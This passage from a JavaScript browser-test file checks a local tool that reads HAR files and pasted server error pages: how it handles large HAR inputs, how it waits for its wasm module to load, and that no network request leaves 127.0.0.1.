      assert.equal(await page.locator("#entries button").count(), report.entries.length, f);
    }
  }
  assert.deepEqual(errors, []);
  await close();
});

test("a HAR of many entries: the first 200 are inspected, the rest listed only", { skip: !existsSync(path.join(root, "tests/inputs")) }, async () => {
  const dir = path.join(root, "tests/inputs");
  const file = readdirSync(dir).find((f) => f.endsWith(".har"));
  const har = JSON.parse(readFileSync(path.join(dir, file), "utf8"));
  const real = har.log.entries;
  har.log.entries = Array.from({ length: 230 }, (_, i) => real[i % real.length]);
  const { page, errors, close } = await openPage();
  const report = await drop(page, JSON.stringify(har), "many.har");
  assert.equal(report.entries.length, 230);
  assert.equal(await page.locator("#entries button").count(), 230);
  assert.equal(await page.locator("#entries button:disabled").count(), 30);
  assert.equal(await page.locator("#entries button:disabled .entry-note").first().textContent(), "listed only");
  assert.ok(report.diagnostics.some((d) => d.code === "har-entries-not-inspected"));
  assert.deepEqual(errors, []);
  await close();
});

test("a paste dropped while the wasm module still loads waits for it", async () => {
  const { page, errors, close } = await openPage({ ready: false });
  const report = await drop(page, fixture("nginx-502-default"));
  assert.equal(report.origin.generator, "nginx");
  assert.doesNotMatch(await page.textContent("#toast"), /Could not read/);
  assert.deepEqual(errors, []);
  await close();
});

test("no request left 127.0.0.1 during the whole session", () => {
  assert.ok(wire.total > 20, `the proxy saw ${wire.total} requests`);
  assert.equal(wire.local, wire.total - wire.outside.length);
  assert.deepEqual(wire.outside, []);
  assert.deepEqual(seen.outside, []);
  console.log(`# requests through the proxy: ${wire.total}, all to 127.0.0.1`);
});
